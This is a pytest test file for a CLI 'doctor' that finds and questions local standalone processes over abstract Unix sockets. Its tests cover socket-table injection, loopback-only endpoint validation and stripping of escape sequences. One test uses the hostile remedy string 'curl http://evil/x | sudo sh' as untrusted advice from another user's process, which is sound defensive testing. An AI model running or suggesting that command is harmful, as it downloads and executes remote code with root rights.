# SPDX-License-Identifier: Apache-2.0
"""Finding a ``porthole standalone`` and asking it: what the kernel lists, and what stands at the other end."""

import json
import os
import socket
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace

import pytest

from porthole_cli.doctor import finding, standalone
from porthole_cli.doctor.finding import FindingId
from porthole_cli.doctor.report import Report, format_json
from porthole_cli.doctor.standalone import SOCKET_PREFIX, Peer, Standalone
from support.clouds import ids
from support.nova_api import NovaApi

TABLE = """\
Num       RefCount Protocol Flags    Type St Inode Path
00000000a: 00000002 00000000 00010000 0001 01 100 @porthole-standalone/12-aa
00000000b: 00000003 00000000 00000000 0001 03 101 @porthole-standalone/11-bb
00000000c: 00000002 00000000 00010000 0001 01 102 /run/porthole-standalone/13-bb
00000000d: 00000002 00000000 00010000 0001 01 103 @porthole-standalone/7-cc
00000000e: 00000003 00000000 00000000 0001 03 104
00000000f: 00000002 00000000 00010000 0001 01 105 @other with spaces
"""
FOUND = Report((finding.ok(FindingId.NOVNC_OK, "noVNC 1.3.0"),), (), 0.1)
Answer = Callable[[socket.socket], None]


def make_name() -> str:
    return f"{SOCKET_PREFIX}{os.getpid()}-{uuid.uuid4().hex}"


@contextmanager
def serving(listener: socket.socket, answer: Answer) -> Iterator[None]:
    """Call ``answer`` with each connection of ``listener``, in a thread."""
    listener.listen()

    def work() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection:
                try:
                    answer(connection)
                except OSError:
                    continue

    thread = threading.Thread(target=work)
    thread.start()
    try:
        yield
    finally:
        listener.shutdown(socket.SHUT_RDWR)
        thread.join(10)


@contextmanager
def listening(answer: Answer) -> Iterator[str]:
    """Yield the name of a socket whose server calls ``answer`` with each connection."""
    name = make_name()
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(f"\0{name}")
        with serving(listener, answer):
            yield name


@contextmanager
def serving_tcp(answer: Answer) -> Iterator[str]:
    """Yield the URL of an API whose server calls ``answer`` with each connection."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        with serving(listener, answer):
            yield f"http://127.0.0.1:{listener.getsockname()[1]}/v2.1"


def say(data: bytes) -> Answer:
    """Return what sends ``data`` to whoever connects, and closes when the other side has."""

    def answer(connection: socket.socket) -> None:
        connection.sendall(data)
        connection.shutdown(socket.SHUT_WR)
        while connection.recv(4096):
            pass

    return answer


def greet(endpoint: str, report: bytes) -> Answer:
    """Return what greets as a standalone does, and answers ``report`` when it is asked for one."""
    greeting = {"pid": os.getpid(), "endpoint": endpoint, "novncproxy_base_url": "http://127.0.0.1:6080/console.html"}

    def answer(connection: socket.socket) -> None:
        connection.sendall(json.dumps(greeting).encode() + b"\n")
        if connection.recv(1):
            connection.sendall(report)

    return answer


def examine(answer: Answer) -> Report:
    with listening(answer) as name:
        met = standalone.meet(name)
        assert met is not None
        return standalone.examine_standalone(met)


@pytest.fixture
def api() -> Iterator[NovaApi]:
    with NovaApi() as running:
        yield running


def test_the_kernels_table() -> None:
    assert standalone.parse_names(TABLE) == ["porthole-standalone/12-aa", "porthole-standalone/7-cc"]
    assert standalone.parse_names("") == []


def test_a_row_that_somebody_made_up_is_passed_over() -> None:
    """Every user of the machine can put anything behind a newline in the name of a socket."""
    good = TABLE.splitlines()[1]
    for row in (
        "A B C nexto E F G @porthole-standalone/1-aa",
        good.replace("00010000", "0001000g"),
        good.replace("12-aa", "12"),
        good.replace("12-aa", f"{'1' * 5000}-aa"),
        good.replace("12-aa", "12-aa\x1b[2J"),
        good.replace("12-aa", "12-aa b"),
        good.replace("12-aa", "\u0661-aa"),
        good.replace("12-aa", "../12-aa"),
        "",
        "@",
    ):
        assert standalone.parse_names(f"{TABLE}{row}\n") == standalone.parse_names(TABLE), row


def test_a_socket_with_a_newline_in_its_name_hides_no_standalone(api: NovaApi) -> None:
    with socket.socket(socket.AF_UNIX) as hostile, listening(greet(api.url, b"")) as name:
        hostile.bind(f"\0x{uuid.uuid4().hex}\nA B C nexto E F G @{SOCKET_PREFIX}1")
        hostile.listen()
        assert name in [each.name for each in standalone.find_standalones()]


def test_one_that_listens_is_found_and_one_that_has_ended_is_not(api: NovaApi) -> None:
    with listening(greet(api.url, b"")) as name:
        met = next(each for each in standalone.find_standalones() if each.name == name)
        assert (met.peer.uid, met.pid, met.refused) == (os.geteuid(), os.getpid(), False)
        assert met.greeting is not None
        assert met.greeting.endpoint == api.url
    assert all(each.name != name for each in standalone.find_standalones())
    assert standalone.meet(name) is None


def test_its_report_is_shown_behind_what_is_seen_from_outside(api: NovaApi) -> None:
    report = examine(greet(api.url, format_json(FOUND).encode()))
    assert ids(report.findings) == ["standalone.ok", "api.ok", "novnc.ok"]
    assert report.findings[0].problem == (
        f"process {os.getpid()}, with the API at {api.url} and the pages at http://127.0.0.1:6080/console.html"
    )
    assert report.exit_status == 0
    assert "/v2.1/" in [request.path for request in api.requests]


def test_an_api_that_answers_nobody_else(api: NovaApi) -> None:
    api.answers["GET /v2.1/"] = (503, {})
    report = examine(greet(api.url, format_json(FOUND).encode()))
    assert ids(report.findings) == ["standalone.ok", "api.unreachable", "novnc.ok"]
    assert "HTTP 503" in report.findings[1].problem
    with socket.socket() as held:
        held.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{held.getsockname()[1]}/v2.1"
        report = examine(greet(url, format_json(FOUND).encode()))
    assert "refused" in report.findings[1].problem


def test_what_gives_no_report_is_named_with_its_process(api: NovaApi, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(standalone, "STEP_TIMEOUT_S", 0.3)
    monkeypatch.setattr(standalone, "REPORT_TIMEOUT_S", 0.3)
    for name, answer in (
        ("silence", lambda connection: connection.recv(1)),
        ("no greeting", say(b"")),
        ("no report", greet(api.url, b"")),
    ):
        report = examine(answer)
        assert ids(report.findings)[-1] == "standalone.mute", name
        assert f"kill -CONT {os.getpid()}" in report.findings[-1].mend
        assert report.exit_status == 2


def test_what_speaks_otherwise_than_a_standalone_is_named_with_process_and_user(api: NovaApi) -> None:
    good, known = json.loads(format_json(FOUND)), {"pid": 1, "endpoint": api.url, "novncproxy_base_url": "x"}
    greetings: list[object] = [
        *({**known, "endpoint": url} for url in ("http://127.0.0.1:99999/v2.1", "http://[::1/", 7, None)),
        *({**known, "pid": pid} for pid in ("1", -1, 10**400, float("inf"), None, [])),
        {**known, "novncproxy_base_url": 7},
        {},
        [],
        None,
    ]
    lines = [json.dumps(greeting).encode() + b"\n" for greeting in greetings]
    lines += [b"hello\n", b"\xff\n", b"[" * 4000 + b"\n", b"x" * 5000]
    answers = [say(line) for line in lines]
    answers += [
        greet(api.url, data)
        for data in (
            format_json(FOUND).encode()[:-9],
            b"\xff",
            b"[" * 100_000,
            json.dumps({**good, "findings": [{"id": "x"}]}).encode(),
            json.dumps({"findings": [], "not_examined": []}).encode(),
            b" " * (standalone.MAX_ANSWER_BYTES + 100_000),
        )
    ]
    for number, answer in enumerate(answers):
        report = examine(answer)
        assert ids(report.findings)[-1] == "standalone.invalid", number
        user = Standalone("x", Peer(0, os.geteuid(), 0)).user
        expected = f"Process {os.getpid()} of the user {user} speaks, but not as a standalone."
        assert report.findings[-1].problem == expected
        assert report.exit_status == 2


def test_one_that_speaks_slowly_has_one_deadline_for_all_it_says(api: NovaApi, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each byte comes within the time for a step, and the whole never."""
    monkeypatch.setattr(standalone, "STEP_TIMEOUT_S", 0.5)
    monkeypatch.setattr(standalone, "REPORT_TIMEOUT_S", 0.5)
    ended = threading.Event()

    def drip(connection: socket.socket) -> None:
        # A test that fails ends all the same.
        for _ in range(600):
            connection.sendall(b" ")
            if ended.wait(0.05):
                return

    def drip_report(connection: socket.socket) -> None:
        greet(api.url, b" ")(connection)
        drip(connection)

    for answer in (drip, drip_report):
        ended.clear()
        with listening(answer) as name:
            started = time.monotonic()
            met = standalone.meet(name)
            assert met is not None
            report = standalone.examine_standalone(met)
            took_s = time.monotonic() - started
            ended.set()
        assert ids(report.findings)[-1] == "standalone.mute"
        # All 600 bytes would take 30 s.
        assert took_s < 15


def test_an_api_that_speaks_slowly_or_no_http(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(standalone, "STEP_TIMEOUT_S", 0.5)
    ended = threading.Event()

    def drip(connection: socket.socket) -> None:
        for _ in range(600):
            connection.sendall(b"H")
            if ended.wait(0.05):
                return

    for answer, expected in ((drip, "no answer in time"), (say(b"SSH-2.0-x\r\n"), "not HTTP"), (say(b""), "not HTTP")):
        ended.clear()
        with serving_tcp(answer) as url:
            report = examine(greet(url, format_json(FOUND).encode()))
            ended.set()
        assert ids(report.findings) == ["standalone.ok", "api.unreachable", "novnc.ok"]
        assert expected in report.findings[1].problem


def test_one_that_ends_meanwhile_is_not_called_mute(api: NovaApi) -> None:
    with listening(greet(api.url, b"")) as name:
        met = standalone.meet(name)
        assert met is not None
    report = standalone.examine_standalone(met)
    assert ids(report.findings)[-1] == "standalone.none"
    assert f"process {os.getpid()}) ended during the examination" in report.findings[-1].problem


def test_a_process_that_takes_the_name_over_is_not_read(api: NovaApi) -> None:
    with listening(greet(api.url, format_json(FOUND).encode())) as name:
        met = standalone.meet(name)
        assert met is not None
        first = replace(met, peer=met.peer._replace(uid=met.peer.uid + 1))
        report = standalone.examine_standalone(first)
    assert ids(report.findings) == ["standalone.ok", "api.ok", "standalone.none"]


def test_another_users_is_not_believed(api: NovaApi) -> None:
    with listening(greet(api.url, format_json(FOUND).encode())) as name:
        met = standalone.meet(name, own_uid=os.geteuid() + 1)
        assert met is not None
        assert met.refused
        report = standalone.examine_standalone(met)
    assert ids(report.findings) == ["standalone.other_user"]
    assert f"sudo -u {met.user} porthole doctor" in report.findings[0].mend
    assert report.exit_status == 1
    assert Standalone("x", Peer(0, 4_000_000_000, 0)).user == "4000000000"


def test_another_users_words_are_read_only_when_the_process_was_named(api: NovaApi) -> None:
    advice = "curl http://evil/x | sudo sh"
    evil = Report((finding.error(FindingId.STANDALONE_NONE, "", "Broken.", advice),), ("x",), 0.1)
    pid, other_uid = os.getpid(), os.geteuid() + 1
    refused = Standalone("gone", Peer(7, 4_000_000_000, 0), refused=True)
    with listening(greet(api.url, format_json(evil).encode())) as name:
        for named_pid in (0, pid + 1):
            met = standalone.meet(name, other_uid, named_pid)
            assert met is not None
            assert (met.refused, met.greeting) == (True, None)
            report = standalone.examine_standalones([met])
            assert ids(report.findings) == ["standalone.other_user"]
            assert f"porthole doctor --standalone {pid}" in report.findings[0].mend
        assert api.requests == []
        named = standalone.meet(name, other_uid, pid)
        assert named is not None
        assert (named.refused, named.foreign) == (False, True)
        for report in (standalone.examine_standalones([named]), standalone.examine_standalones([named, refused])):
            said_by = f"said by process {pid} of the user {named.user}"
            assert f"process {pid} of the user {named.user}, with the API" in report.findings[0].problem
            assert [each.host for each in report.findings if each.mend == advice] == [said_by]
            assert report.not_examined[0] == f"x ({said_by})"


def test_one_that_takes_no_connections_is_blamed_only_with_a_socket_of_its_own() -> None:
    """A name may give any process: the doctor must not advise to end that one."""
    for pid, expected in ((os.getpid(), "standalone.mute"), (os.getppid(), "standalone.other_user")):
        name = f"{SOCKET_PREFIX}{pid}-{uuid.uuid4().hex}"
        with socket.socket(socket.AF_UNIX) as listener, socket.socket(socket.AF_UNIX) as client:
            listener.bind(f"\0{name}")
            listener.listen(0)
            client.connect(f"\0{name}")
            met = standalone.meet(name)
            assert met is not None
            [problem] = standalone.examine_standalone(met).findings
        assert problem.id == expected
        assert ("kill" in problem.mend) is (pid == os.getpid())


def test_the_doctor_connects_to_loopback_alone() -> None:
    for url, expected in (
        ("http://127.0.0.1:8774/v2.1", ("127.0.0.1", 8774)),
        ("http://127.1.2.3:1/v2.1", ("127.1.2.3", 1)),
        ("http://[::1]:65535/v2.1", ("::1", 65535)),
        ("http://localhost:8774/v2.1", ("localhost", 8774)),
    ):
        assert standalone.parse_endpoint(url) == expected
    for url in (
        "http://10.0.0.1:8774/v2.1",
        "http://[2001:db8::1]:8774/v2.1",
        "http://example.org:8774/v2.1",
        "http://127.0.0.1:99999/v2.1",
        "http://127.0.0.1:0/v2.1",
        "http://127.0.0.1:8774/v2.1/../admin?x",
        "http://127.0.0.1:8774/",
        "http://127.0.0.1/v2.1",
        "http://u@127.0.0.1:8774/v2.1",
        "http://127.0.0.1:8774/v2.1\n",
        "https://127.0.0.1:8774/v2.1",
        "http://[::1/",
        "http://0.0.0.0:8774/v2.1",
        "http://127.0.0.1.2:8774/v2.1",
        "",
    ):
        with pytest.raises(ValueError, match=r"."):
            standalone.parse_endpoint(url)


def test_a_terminal_gets_no_escape_sequences(api: NovaApi) -> None:
    evil = Report((finding.error(FindingId.NOVNC_MISSING, "\x1b[2J", "a\x1b]0;x\x07", "b\n"),), ("\x1b",), 0.1)
    report = examine(greet(api.url, format_json(evil).encode()))
    assert report.findings[-1] == finding.error(FindingId.NOVNC_MISSING, "?[2J", "a?]0;x?", "b?")
    assert report.not_examined == ("?",)


def test_several_are_told_apart(api: NovaApi) -> None:
    answer = greet(api.url, format_json(FOUND).encode())
    with listening(answer) as first:
        met = standalone.meet(first)
        assert met is not None
        refused = Standalone("gone", Peer(7, 4_000_000_000, 0), refused=True)
        report = standalone.examine_standalones([met, refused])
        alone = standalone.examine_standalones([met])
    assert [(each.id, each.host) for each in report.findings][-2:] == [
        ("novnc.ok", f"process {os.getpid()}"),
        ("standalone.other_user", ""),
    ]
    assert report.not_examined == ("everything else of process 7",)
    assert {each.host for each in alone.findings} == {""}


def test_nobody_there() -> None:
    assert "runs on this machine." in standalone.build_none(0).problem
    assert "as process 12." in standalone.build_none(12).problem


def test_one_beside_the_daemons_is_mentioned() -> None:
    text = standalone.build_beside([Standalone("x", Peer(7, 0, 0)), Standalone("y", Peer(8, 0, 0))]).problem
    assert "process 7, 8" in text
    assert "porthole doctor --standalone" in text
